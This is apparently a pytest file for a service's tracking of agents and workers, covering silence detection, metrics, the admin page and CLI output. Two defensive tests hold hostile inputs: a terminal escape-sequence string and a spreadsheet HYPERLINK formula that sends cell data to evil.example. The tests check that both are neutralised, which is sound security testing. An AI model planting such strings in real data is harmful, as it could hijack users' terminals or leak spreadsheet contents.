"""Agents and workers are seen: for who runs the service, on its page, by its command and in its figures."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import httpx
import pytest
from prometheus_client.parser import text_string_to_metric_families
from service_support import PASSWORD, POLICY, house

from aegis.cli.main import run
from aegis.service.catalog import jobs, signs
from aegis.service.catalog.records import Sign, now
from aegis.service.worker import Worker


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    with house(tmp_path_factory.mktemp("signs")) as made:
        yield made


@pytest.fixture(autouse=True)
def nobody(place):
    """Nobody was seen before a test."""
    with place.catalog.database.writing() as session:
        session.query(Sign).delete()


def seen(place, account: str | None = None) -> dict[tuple[str, str], bool]:
    with place.catalog.database.reading() as session:
        return {(one.place, one.name): one.silent for one in signs.programs(session, account)}


def ago(place, name: str, seconds: float) -> None:
    with place.catalog.database.writing() as session:
        for sign in session.query(Sign).filter(Sign.name == name):
            sign.seen = now() - timedelta(seconds=seconds)


def figures(place) -> dict[tuple[str, ...], float]:
    with place.client("aude") as aude:
        families = text_string_to_metric_families(aude.metrics())
        return {
            (family.name, *sample.labels.values()): sample.value
            for family in families
            for sample in family.samples
            if family.name in ("aegis_programs", "aegis_last_seen_seconds")
        }


def test_who_looks_for_work_is_seen_and_who_does_not_is_silent(place):
    assert not place.agent.once()
    assert not place.worker.once()
    agent, worker = ("agent", "paula/agent"), ("worker", place.worker.name)
    assert seen(place) == {agent: False, worker: False}
    ago(place, "paula/agent", signs.SILENT_AFTER.total_seconds() + 1)
    assert seen(place) == {agent: True, worker: False}
    told = figures(place)
    assert told["aegis_programs", "agent", "silent"] == 1
    assert told["aegis_programs", "agent", "running"] == 0
    assert told["aegis_programs", "worker", "running"] == 1
    assert told["aegis_last_seen_seconds", "agent"] > signs.SILENT_AFTER.total_seconds()
    assert not any("paula" in str(key) for key in told)


def test_a_sign_of_life_of_a_job_is_one_of_its_agent(place):
    place.offer()
    with place.client("paula") as paula:
        paula.ask_summary("census", POLICY, protect="noise", epsilon=1.0)
        taken = paula.work("one")
        ago(place, "paula/one", 60)
        assert seen(place)["agent", "paula/one"]
        paula.alive(taken["id"], taken["attempt"], {})
        assert not seen(place)["agent", "paula/one"]
        paula.give_back(taken["id"], taken["attempt"])
    place.work()


def test_a_worker_that_is_told_to_end_is_not_missed(place):
    worker = Worker(place.catalog)
    worker.once()
    assert ("worker", worker.name) in seen(place)
    worker.over.set()
    worker.run()
    assert ("worker", worker.name) not in seen(place)


def test_names_without_end_push_out_only_names_of_the_same_account(place):
    with place.client("paula") as paula:
        for number in range(30):
            paula.work(f"n{number}")
    place.worker.once()
    names = seen(place)
    assert len(names) == 21
    assert ("agent", "paula/n29") in names
    assert ("agent", "paula/n0") not in names
    assert ("worker", place.worker.name) in names


def test_who_was_not_seen_for_a_month_is_forgotten(place):
    place.worker.once()
    ago(place, place.worker.name, 31 * 86_400)
    place.agent.once()
    assert set(seen(place)) == {("agent", "paula/agent")}


def test_an_admin_reads_it_on_the_page_and_by_the_command(place, monkeypatch, capsys):
    place.agent.once()
    ago(place, "paula/agent", 60)
    with httpx.Client(base_url=place.url) as browser:
        form = {"name": "ada", "password": PASSWORD}
        browser.post("/sign-in", data=form, headers={"Origin": place.url})
        text = browser.get("/accounts").text
    section = text.split("Agents and workers</h2>", 1)[1].split("Invite somebody", 1)[0]
    assert "paula/agent" in section
    assert "silent" in section
    monkeypatch.setenv("AEGIS_URL", place.url)
    monkeypatch.setenv("AEGIS_TOKEN", place.tokens["aude"])
    assert run(["catalog", "programs", "--format", "json"]) == 0
    (told,) = json.loads(capsys.readouterr().out)
    assert (told["place"], told["name"], told["silent"]) == (jobs.AGENT, "paula/agent", True)
    monkeypatch.setenv("AEGIS_TOKEN", place.tokens["otto"])
    assert run(["catalog", "programs"]) == 2


def test_a_provider_reads_when_its_agent_was_seen_while_a_job_waits(place):
    place.offer("waiting")
    with place.client("paula") as paula:
        paula.ask_summary("waiting", POLICY, protect="noise", epsilon=1.0)
    with httpx.Client(base_url=place.url) as browser:
        form = {"name": "paula", "password": PASSWORD}
        browser.post("/sign-in", data=form, headers={"Origin": place.url})
        assert (
            "waiting for your agent, which last called 2" in browser.get("/data-sets/waiting").text
        )
    place.work()


HOSTILE = "\x1b[2J\x1b]0;owned\x07\u202egnp"


def test_what_others_wrote_moves_no_terminal(place, monkeypatch, capsys):
    """The name of an agent, a purpose, how far a job is: escape sequences are shown, not carried out."""
    place.offer("terminal")
    with place.client("paula") as paula, place.client("clara") as clara:
        paula.work(f"one{HOSTILE}")
        number = clara.request("terminal", f"why{HOSTILE}", terms_accepted=True)["id"]
    monkeypatch.setenv("AEGIS_URL", place.url)
    for who, *words in (
        ("aude", "programs"),
        ("otto", "requests"),
        ("otto", "status", number),
        ("aude", "log"),
    ):
        monkeypatch.setenv("AEGIS_TOKEN", place.tokens[who])
        assert run(["catalog", *words]) == 0
        shown = capsys.readouterr().out
        assert not set(shown) & set(HOSTILE[0] + "\x07\u202e"), words
        if words[0] != "log":
            assert "x1b" in shown, words


def test_what_others_wrote_is_no_formula_in_a_spreadsheet(place, monkeypatch, capsys):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    with place.client("paula") as paula:
        paula.register("sheet", source="adult", public_key=place.key, title=formula)
    monkeypatch.setenv("AEGIS_URL", place.url)
    monkeypatch.setenv("AEGIS_TOKEN", place.tokens["paula"])
    for words in (("list",), ("show", "sheet")):
        capsys.readouterr()
        assert run(["catalog", *words, "--format", "csv"]) == 0
        rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
        assert [row["title"] for row in rows if row["id"] == "sheet"] == [f"'{formula}"]
    assert run(["catalog", "list", "--format", "json"]) == 0
    assert formula in [row["title"] for row in json.loads(capsys.readouterr().out)]
